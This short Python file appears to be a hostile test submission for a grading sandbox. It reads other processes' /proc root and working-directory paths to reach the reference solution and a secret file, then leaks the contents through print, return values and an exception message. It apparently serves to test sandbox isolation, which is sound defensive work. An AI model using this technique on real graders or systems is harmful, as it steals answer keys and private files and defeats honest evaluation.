# tries: to look out through the root folder of another process
# plain: leaks

import os

loot = ""
for pid in ("@PID@", 1, os.getppid(), "self"):
    for place in (f"/proc/{pid}/root", f"/proc/{pid}/cwd"):
        for name in ("@COURSE@/solutions/hostile/double/exercise.py", "@HOME@/secret.txt"):
            try:
                with open(place + name) as file:
                    loot += file.read()
            except OSError:
                pass


def double(x):
    print(loot)
    return loot


def mean_square(x):
    raise ValueError(loot)
